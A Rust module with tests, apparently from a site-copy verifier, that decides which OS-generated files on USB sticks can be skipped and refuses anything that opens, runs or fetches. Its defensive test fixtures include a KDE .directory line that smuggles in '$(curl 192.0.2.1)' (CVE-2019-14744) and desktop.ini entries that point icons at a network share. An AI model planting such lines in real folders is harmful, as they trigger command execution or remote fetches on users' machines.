//! What operating systems leave in folders that they look at, and at the root of sticks that are plugged in.
//!
//! It is told by its place and its name, and names are compared without regard to case, since FAT keeps them in either.
//!
//! **Invariant:** only what systems write is passed over when a copy is verified, by lists of that: never what a browser opens,
//! what a double click starts, or what tells a system to start or to fetch something.

use std::io::Read;
use std::path::Path;

use crate::source::files::{Access, open_below, read_below, split};

/// Folders that systems make at the root of a stick. (`FOUND.000` and `.Trash-1000` bear numbers.)
///
/// Sources: the templates `Global/Windows`, `macOS` and `Linux` of github.com/github/gitignore; Microsoft's documentation of
/// `chkdsk` (`FOUND.nnn`) and of `System Volume Information`; freedesktop.org's Trash specification 1.0 (`.Trash`, `.Trash-$uid`);
/// `mklost+found(8)`; Android's `fsck_msdos` (`LOST.DIR`) and its external storage before Android 4.4 (`.android_secure`).
const FOLDERS: [&str; 14] = [
    // Windows
    "system volume information",
    "$recycle.bin",
    "recycler",
    "recycled",
    // macOS
    ".spotlight-v100",
    ".trashes",
    ".fseventsd",
    ".temporaryitems",
    ".documentrevisions-v100",
    ".pkinstallsandboxmanager",
    // Linux
    "lost+found",
    ".trash",
    // Android
    "lost.dir",
    ".android_secure",
];

/// Folders in which Windows keeps what was deleted.
const RECYCLE_BINS: [&str; 3] = ["$recycle.bin", "recycler", "recycled"];

/// Files that systems make at the root of a stick: macOS's of disks, Android's mark for its media scanner, Windows' of a disk
/// check at start (`bootex.log`) and of its boot's telemetry (`bootTel.dat`).
const ROOT_FILES: [&str; 7] = [
    ".apdisk",
    "boottel.dat",
    ".com.apple.timemachine.donotpresent",
    ".metadata_never_index",
    ".volumeicon.icns",
    ".nomedia",
    "bootex.log",
];

/// Files that systems make in any folder that is looked at.
const FILES: [&str; 4] = [".ds_store", "thumbs.db", "ehthumbs.db", "ehthumbs_vista.db"];

/// The file by which Windows shows a folder in another way; it can name a picture on the network, which is then fetched.
const DESKTOP_INI: &str = "desktop.ini";

/// The lines of the one that Windows puts into its recycle bin.
const OF_RECYCLE_BIN: [&str; 3] = [
    "[.shellclassinfo]",
    "clsid={645ff040-5081-101b-9f08-00aa002f954e}",
    "localizedresourcename=@%systemroot%\\system32\\shell32.dll,-8964",
];

/// The lines of the one that Windows writes where somebody chose how a folder is looked at, but for its two values.
const OF_A_VIEW: [&str; 3] = ["[viewstate]", "mode=", "vid="];

/// What the last of its lines can say: the templates of Explorer's dialog.
const VIEWS: [&str; 5] = ["generic", "documents", "pictures", "music", "videos"];

/// The file by which KDE's file manager shows a folder. KDE took commands and addresses from it (CVE-2019-14744), so that it is
/// passed over only with what Dolphin itself writes: how entries are sorted and which are shown.
const DOLPHIN: &str = ".directory";

/// The groups that Dolphin writes into it (`dolphin_directoryviewpropertysettings.kcfg`).
const OF_DOLPHIN: [&str; 2] = ["[dolphin]", "[settings]"];

/// The file that can say what is started when a stick is plugged in.
const AUTORUN: &str = "autorun.inf";

/// Ends of names of what systems write into their folders: settings, lists, indexes, what is left of damaged files. Whatever
/// else lies there was put there or thrown away by somebody.
const WRITTEN: &str = "
    dat chk log db bak trashinfo
    plist loc state updates data header offsets buckets shadow directorystorefile
    indexarrays indexcompactdirectory indexdirectory indexgroups indexhead indexids indexpositionstable indexpositions
    indexpostings indextermids indexupdates indexbigdates shadowindexarrays shadowindexcompactdirectory
    shadowindexdirectory shadowindexgroups shadowindexhead shadowindextermids shadowindexpositiontable
";

/// Ends of names of what people throw away and apps keep there: no browser opens it as a page, and no system starts it.
const ORDINARY: &str = "jpg jpeg png gif webp heic bmp txt csv docx xlsx pptx mp3 m4a mp4 mov zip";

/// Where Android's apps keep what is theirs.
const OF_APPS: &str = "android/data/";

/// AppleDouble's signature (RFC 1740, appendix B).
const APPLE_DOUBLE: [u8; 4] = [0x00, 0x05, 0x16, 0x07];

/// The largest AppleDouble file that is looked at; most have 4 KiB.
const MAX_APPLE_DOUBLE: u64 = 1 << 20;

/// The largest `desktop.ini` or `.directory` that is looked at.
const MAX_INI: u64 = 4 << 10;

/// How much of a file without an end of its name is looked at: browsers judge by less (WHATWG MIME Sniffing, 5.2: 1445 bytes).
const SNIFFED: usize = 1445;

/// Whether a build may leave the regular file at `path` where it is, and delete it with a folder that it empties.
pub fn is_left(path: &Path) -> bool {
    let name = path.file_name().and_then(|name| name.to_str()).map(str::to_ascii_lowercase);
    name.is_some_and(|name| {
        FILES.contains(&name.as_str())
            || name == DESKTOP_INI
            || split(path).is_ok_and(|(folder, file)| is_apple_double(folder, file, &name))
    })
}

/// Whether a folder at the root of a copy, by its name, is a system's own.
pub fn is_system_folder(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    let numbered = |start: &str, digits: std::ops::RangeInclusive<usize>| {
        name.strip_prefix(start).is_some_and(|number| {
            digits.contains(&number.len()) && number.bytes().all(|byte| byte.is_ascii_digit())
        })
    };
    FOLDERS.contains(&name.as_str()) || numbered("found.", 3..=3) || numbered(".trash-", 1..=10)
}

/// Whether `within`, a path below a copy's root with `/` between its parts, lies in a system's own folder.
pub fn is_in_system_folder(within: &str) -> bool {
    within.split_once('/').is_some_and(|(first, _)| is_system_folder(first))
}

/// Whether verifying the copy at `root` passes over the regular file `within`: a system left it, and nobody opens it.
pub fn is_passed_over(root: &Path, within: &str) -> bool {
    let lower = within.to_ascii_lowercase();
    let (folder, name) = lower.rsplit_once('/').unwrap_or(("", &lower));
    let first = folder.split('/').next().unwrap_or_default();
    match name {
        AUTORUN => false,
        DESKTOP_INI => {
            let of_bin = RECYCLE_BINS.contains(&first);
            has_lines(root, within, |line| is_of_a_view(line) || of_bin && OF_RECYCLE_BIN.contains(&line))
        }
        DOLPHIN => has_lines(root, within, is_of_dolphin),
        ".nomedia" if first == "android" => true,
        _ if FILES.contains(&name) || folder.is_empty() && ROOT_FILES.contains(&name) => true,
        // Beside what it belongs to: by itself it is a file with a name of its own.
        _ if is_apple_double(root, Path::new(within), name) => {
            let path = Path::new(within);
            let of = path.file_name().and_then(|name| name.to_str()).and_then(|name| name.get(2..));
            of.is_some_and(|of| {
                // macOS takes away its own folder and leaves this.
                folder.is_empty() && is_system_folder(of)
                    || root.join(path).with_file_name(of).symlink_metadata().is_ok()
            })
        }
        _ if end(name).is_some_and(|end| ORDINARY.split(' ').any(|known| known == end)) => {
            is_in_system_folder(within) || lower.starts_with(OF_APPS)
        }
        _ => is_in_system_folder(within) && is_written(name) && !opens(root, within, end(name)),
    }
}

/// Whether a file in a system's own folder, of a name that tells nothing of it, begins like what a browser shows or a system
/// starts. What was lost and found again has a number for a name, and a page among it is a page still.
fn opens(root: &Path, within: &str, end: Option<&str>) -> bool {
    if !matches!(end, None | Some("chk")) {
        return false;
    }
    let Ok(file) = open_below(root, Path::new(within), Access::Read) else { return true };
    let mut start = Vec::new();
    if file.take(SNIFFED as u64).read_to_end(&mut start).is_err() {
        return true;
    }
    let start = start.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(&start);
    let text = start.trim_ascii_start();
    [&b"MZ"[..], b"\x7FELF", b"#!", b"%PDF-", b"PK\x03\x04"].iter().any(|sign| start.starts_with(sign))
        || text.get(..2).is_some_and(is_tag)
        // UTF-16 with its mark: a browser reads it as text whatever it is.
        || start.starts_with(b"\xFF\xFE") || start.starts_with(b"\xFE\xFF")
}

/// Whether two bytes begin a tag, a comment or an instruction.
fn is_tag(pair: &[u8]) -> bool {
    pair[0] == b'<' && (pair[1].is_ascii_alphabetic() || matches!(pair[1], b'!' | b'/' | b'?'))
}

/// Whether a file of this name, in lower case, is one that a system writes: without an end, or with one of [`WRITTEN`].
fn is_written(name: &str) -> bool {
    end(name).is_none_or(|end| WRITTEN.split_whitespace().any(|known| known == end))
}

/// The end of a name, behind its last point.
fn end(name: &str) -> Option<&str> {
    // Windows does not keep what stands at the end.
    let name = name.trim_end_matches(['.', ' ']);
    name.trim_start_matches('.').rsplit_once('.').map(|(_, end)| end)
}

/// Whether a file whose `name` begins with `._` is what macOS keeps of another file where the file system has no place for
/// it. One with a tag in it is a page to a browser, whatever it begins with.
fn is_apple_double(folder: &Path, within: &Path, name: &str) -> bool {
    name.starts_with("._")
        && read_below(folder, within, MAX_APPLE_DOUBLE)
            .is_ok_and(|bytes| bytes.starts_with(&APPLE_DOUBLE) && !bytes.windows(2).any(is_tag))
}

/// Whether the text at `within` has nothing but lines that `is_known`, which are given in lower case, and empty ones.
fn has_lines(root: &Path, within: &str, is_known: impl Fn(&str) -> bool) -> bool {
    let bytes = read_below(root, Path::new(within), MAX_INI);
    let text = bytes.ok().and_then(|bytes| String::from_utf8(bytes).ok());
    text.is_some_and(|text| {
        let mut lines = text.lines().map(|line| line.trim().to_ascii_lowercase());
        lines.all(|line| line.is_empty() || is_known(&line))
    })
}

fn is_of_a_view(line: &str) -> bool {
    OF_A_VIEW.contains(&line) || line.strip_prefix("foldertype=").is_some_and(|view| VIEWS.contains(&view))
}

/// Whether a line of `.directory` is a group that Dolphin writes, or a value of plain words and numbers. A key with brackets, such
/// as `icon[$e]`, is run; a value with a slash or a colon may be fetched.
fn is_of_dolphin(line: &str) -> bool {
    OF_DOLPHIN.contains(&line)
        || line.split_once('=').is_some_and(|(key, value)| {
            key.bytes().all(|byte| byte.is_ascii_alphanumeric())
                && !["icon", "exec", "url", "type", "name"].contains(&key)
                && value.bytes().all(|byte| byte.is_ascii_alphanumeric() || b",._+- ".contains(&byte))
        })
}

#[cfg(test)]
mod tests {
    use std::fs;

    use super::*;

    /// Whether a file with these bytes is passed over in a copy that has `en/index.html`.
    fn passes(within: &str, bytes: &[u8]) -> bool {
        let top = tempfile::tempdir().unwrap();
        for (path, bytes) in [("en/index.html", &b"x"[..]), (within, bytes)] {
            let path = top.path().join(path);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, bytes).unwrap();
        }
        is_passed_over(top.path(), within)
    }

    const DOUBLE: &[u8] = &[0x00, 0x05, 0x16, 0x07, 0x00, 0x02];
    const OF_BIN: &[u8] = b"[.ShellClassInfo]\r\nCLSID={645FF040-5081-101B-9F08-00AA002F954E}\r\nLocalizedResourceName=@%SystemRoot%\\system32\\shell32.dll,-8964\r\n";
    const VIEW: &[u8] = b"[ViewState]\r\nMode=\r\nVid=\r\nFolderType=Pictures\r\n";
    const DOLPHIN: &[u8] = b"[Dolphin]\nTimestamp=2026,11,1,10,5,3.123\nVersion=4\nViewMode=1\nVisibleRoles=text,CustomizedDetails,Details_text\n\n[Settings]\nHiddenFilesShown=true\n";

    /// What systems leave, and what somebody may have put there: whether it is passed over, its name, its bytes.
    const CASES: &[(bool, &str, &[u8])] = &[
        // Windows.
        (true, "System Volume Information/WPSettings.dat", b"x"),
        (true, "SYSTEM VOLUME INFORMATION/IndexerVolumeGuid", b"{\0a\0"),
        (true, "System Volume Information/tracking.log", b"x"),
        (true, "System Volume Information/AadRecoveryPasswordDelete/x", b""),
        (true, "$Recycle.Bin/S-1-5-21-1/$IAB12CD", b"x"),
        (true, "$RECYCLE.BIN/S-1-5-21-1/desktop.ini", OF_BIN),
        (true, "RECYCLER/S-1-5-21-1/INFO2", b"x"),
        (true, "Found.000/FILE0000.CHK", b"x"),
        (true, "found.017/DIR0000.CHK/FILE0001.CHK", b"x"),
        (true, "bootTel.dat", b"x"),
        (true, "BOOTEX.LOG", b"x"),
        (true, "THUMBS.DB", b"x"),
        (true, "en/Thumbs.db", b"x"),
        (true, "en/products/EHTHUMBS.DB", b"x"),
        (true, "en/Desktop.ini", VIEW),
        // macOS.
        (true, ".Spotlight-V100/Store-V2/A1/store.db", b"x"),
        (true, ".SPOTLIGHT-V100/VolumeConfiguration.plist", b"<?xml version=\"1.0\"?>"),
        (true, ".fseventsd/fseventsd-uuid", b"x"),
        (true, ".FSEVENTSD/0000000000a1b2c3", b"\x1F\x8B"),
        (true, ".TemporaryItems/folders.501/x", b"x"),
        (true, ".apdisk", b"<?xml version=\"1.0\"?>"),
        (true, "ko/.DS_STORE", b"x"),
        (true, "en/._index.html", DOUBLE),
        (true, "._.Trashes", DOUBLE),
        (true, "._.TRASHES", DOUBLE),
        // Linux.
        (true, ".trash-1000/info/a.trashinfo", b"[Trash Info]"),
        (true, ".Trash-0/info/index.html.trashinfo", b"[Trash Info]"),
        (true, ".TRASH-4294967294/info/a.trashinfo", b"[Trash Info]"),
        (true, "lost+found/#1234", b"x"),
        (true, ".directory", DOLPHIN),
        (true, "en/.directory", DOLPHIN),
        // Android.
        (true, "LOST.DIR/1", b"\xFF\xD8\xFF"),
        (true, "lost.dir/12345", b"x"),
        (true, ".android_secure/a", b"x"),
        (true, ".nomedia", b""),
        (true, "Android/.nomedia", b""),
        (true, "ANDROID/data/.NOMEDIA", b""),
        // What people threw away, and what apps keep.
        (true, ".Trash-1000/files/front.jpg", b"x"),
        (true, ".Trash-1000/files/notes.TXT", b"x"),
        (true, ".Trashes/501/letter.docx", b"x"),
        (true, "$RECYCLE.BIN/S-1-5-21-1/$IAB12CD.jpg", b"x"),
        (true, "$RECYCLE.BIN/S-1-5-21-1/$RAB12CD.xlsx", b"x"),
        (true, ".Trash-1000/files/film.mp4", b"x"),
        (true, ".Trash-1000/files/old.zip", b"PK\x03\x04"),
        (true, ".Spotlight-V100/Store-V2/A1/Cache/0000/a.txt", b"x"),
        (true, "Android/data/org.example/files/a.png", b"x"),
        (false, "Android/data/org.example/files/a.svg", b"x"),
        (false, "Android/a.png", b"x"),
        (false, "en/a.png", b"x"),
        (false, ".Trash-1000/files/front.jpg.html", b"x"),
        (false, ".Trash-1000/files/letter.docm", b"x"),
        // What starts or fetches something.
        (false, "autorun.inf", b"x"),
        (false, "AUTORUN.INF", b"x"),
        (false, "System Volume Information/AUTORUN.INF", b"x"),
        (false, "desktop.ini", b"[.ShellClassInfo]\r\nIconResource=\\\\192.0.2.1\\share\\icon.ico\r\n"),
        (false, "desktop.ini", b"[ViewState]\r\nFolderType=\\\\192.0.2.1\\x\r\n"),
        (false, "en/Desktop.ini", OF_BIN),
        (
            false,
            "$RECYCLE.BIN/S-1-5-21-1/desktop.ini",
            b"[.ShellClassInfo]\r\nIconResource=\\\\192.0.2.1\\share\\icon.ico\r\n",
        ),
        (false, ".directory", b"[Desktop Entry]\nType=Directory\nIcon[$e]=$(curl 192.0.2.1)\n"),
        (false, ".directory", b"[Dolphin]\nIcon=evil\n"),
        (false, ".directory", b"[Dolphin]\nBackground=//192.0.2.1/x\n"),
        (false, "LOST.DIR/setup.exe", b"x"),
        (false, "FOUND.000/READ ME.lnk", b"x"),
        (false, ".fseventsd/offer.url", b"x"),
        (false, "RECYCLER/a.scr", b"x"),
        (false, ".Trashes/501/a.bat", b"x"),
        (false, ".Trash-1000/files/a.cmd", b"x"),
        (false, "LOST.DIR/a.ps1", b"x"),
        (false, "LOST.DIR/a.VBS", b"x"),
        (false, "LOST.DIR/a.apk", b"x"),
        (false, "lost+found/a.desktop", b"x"),
        // What a browser opens.
        (false, "System Volume Information/index.html", b"x"),
        (false, "System Volume Information/a/b/INDEX.HTM", b"x"),
        (false, "FOUND.000/a.xhtml", b"x"),
        (false, "$RECYCLE.BIN/S-1-5-21-1/$RAB12CD.svg", b"x"),
        (false, ".Trashes/501/guide.pdf", b"x"),
        (false, "lost+found/x.js", b"x"),
        (false, "LOST.DIR/x.mht", b"x"),
        (false, "LOST.DIR/x.xml", b"x"),
        (false, "LOST.DIR/page.html.", b"x"),
        (false, "LOST.DIR/page.html ", b"x"),
        (false, "LOST.DIR/1", b" \n<html>"),
        (false, "lost+found/#1234", b"\xEF\xBB\xBF<!DOCTYPE html>"),
        (false, "FOUND.000/FILE0000.CHK", b"<h1>Genuine</h1>"),
        (false, "LOST.DIR/2", b"%PDF-1.7"),
        (false, "LOST.DIR/3", b"MZ\x90\0"),
        (false, "LOST.DIR/4", b"\x7FELF"),
        (false, "LOST.DIR/5", b"#!/bin/sh"),
        (false, "LOST.DIR/6", b"\xFF\xFE<\0h\0"),
        (false, "LOST.DIR/7", b"PK\x03\x04"),
        (false, "en/._index.html", b"<h1>x</h1>"),
        (false, "en/._index.html", b"\x00\x05\x16\x07 <h1>x</h1>"),
        (false, "en/._other.html", DOUBLE),
        (false, "en/._start.bat", DOUBLE),
        (false, "._offer.url", DOUBLE),
        (false, "en/._.Trashes", DOUBLE),
        // What nobody knows.
        (false, "Android/data/index.html", b"x"),
        (false, "Android/x", b"x"),
        (false, "LOST.DIR/안내.hwp", b"x"),
        (false, "LOST.DIR/a.hwpx", b"x"),
        (false, "$RECYCLE.BIN/S-1-5-21-1/$RAB12CD.egg", b"x"),
        (false, ".Trashes/501/x.eml", b"x"),
        (false, "System Volume Information/x.unheard-of", b"x"),
        // Of the same names, but not where systems make them.
        (false, "en/LOST.DIR/1", b"x"),
        (false, "en/System Volume Information/WPSettings.dat", b"x"),
        (false, "en/.apdisk", b"x"),
        (false, "en/.nomedia", b"x"),
        (false, "en/bootTel.dat", b"x"),
        (false, "FOUND.0000/FILE0000.CHK", b"x"),
        (false, "FOUND.A00/FILE0000.CHK", b"x"),
        (false, ".Trash-me/x", b"x"),
        (false, "Thumbs.db.html", b"x"),
        (false, ".DS_Store ", b"x"),
        (false, "LOST.DIR", b"x"),
    ];

    #[test]
    fn what_systems_leave_is_passed_over_and_nothing_that_is_opened_or_starts_something() {
        for (is_left, within, bytes) in CASES {
            assert_eq!(passes(within, bytes), *is_left, "{within}: {}", bytes.escape_ascii());
        }
    }
}
